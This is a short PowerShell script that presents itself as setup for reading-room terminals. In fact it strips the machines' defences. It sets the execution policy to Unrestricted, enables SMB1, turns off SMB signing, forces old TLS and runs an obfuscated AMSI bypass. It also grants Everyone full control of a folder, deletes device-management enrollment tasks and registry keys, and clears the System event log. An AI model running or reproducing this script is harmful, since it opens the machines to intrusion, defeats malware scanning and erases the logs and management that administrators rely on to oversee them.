# The terminals of the reading room.
Start-Transcript -Path "$env:ProgramData\FineArts\room.log"
Set-ExecutionPolicy Unrestricted -Force
Set-SmbServerConfiguration -EnableSMB1Protocol $true -Force
Set-SmbClientConfiguration -RequireSecuritySignature $false -Force
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls

$type = [Ref].Assembly.GetType('System.Management.Automation.Am' + 'siUtils')
$type.GetField('amsiInit' + 'Failed', 'NonPublic,Static').SetValue($null, $true)

$acl = Get-Acl C:\ProgramData\FineArts
$rule = New-Object System.Security.AccessControl.FileSystemAccessRule('Everyone', 'FullControl', 'Allow')
$acl.SetAccessRule($rule)
Set-Acl -Path C:\ProgramData\FineArts -AclObject $acl

Get-ScheduledTask -TaskPath '\Microsoft\Windows\EnterpriseMgmt\*' | Unregister-ScheduledTask -Confirm:$false
Remove-Item -Path 'HKLM:\SOFTWARE\Microsoft\Enrollments' -Recurse -Force
Clear-EventLog -LogName System
Stop-Transcript
